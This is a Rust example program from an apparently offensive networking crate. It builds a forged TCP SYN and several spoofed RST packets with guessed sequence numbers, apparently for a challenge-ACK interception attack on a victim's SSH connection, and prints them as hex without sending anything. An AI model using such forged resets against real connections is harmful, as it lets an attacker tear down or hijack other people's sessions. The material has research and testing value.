//! Example: Forging the SYN and RST used by an interception
//!
//! Builds both packets for a sample flow and prints them as hex so they can
//! be compared against a capture. No privileges needed, nothing is sent.
//!
//! Run with: cargo run -p challack-packet --example forge_packets

use challack_core::{FourTuple, MacAddr};
use challack_packet::{build_rst, build_syn, decode, sequence_guess, INITIAL_SEQUENCE};
use std::net::Ipv4Addr;

fn hex(bytes: &[u8]) -> String {
    bytes
        .iter()
        .map(|b| format!("{:02x}", b))
        .collect::<Vec<_>>()
        .join(" ")
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let tuple = FourTuple::new(
        Ipv4Addr::new(192, 168, 1, 100),
        Ipv4Addr::new(192, 168, 1, 1),
        54321,
        22,
    );

    let syn = build_syn(&tuple, INITIAL_SEQUENCE)?;
    println!("{}SYN, seq {} ({} bytes)", tuple, INITIAL_SEQUENCE, syn.len());
    println!("  {}", hex(&syn));

    // Pretend the victim answered with ack=55555, window=64240. The RST
    // answers that challenge ACK, so it travels the reverse of its direction.
    let victim_mac = MacAddr([0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF]);
    let peer_mac = MacAddr([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]);
    let challenge_ack = tuple.reversed();
    let rst_tuple = challenge_ack.reversed();

    for attempt in 0..3 {
        let seq = sequence_guess(55555, 64240, attempt);
        let rst = build_rst(&rst_tuple, peer_mac, victim_mac, seq)?;
        let decoded = decode(&rst)?;
        println!(
            "{}RST, seq {} ({} bytes, flags {})",
            rst_tuple,
            seq,
            rst.len(),
            decoded.transport.flags
        );
        println!("  {}", hex(&rst));
    }

    Ok(())
}
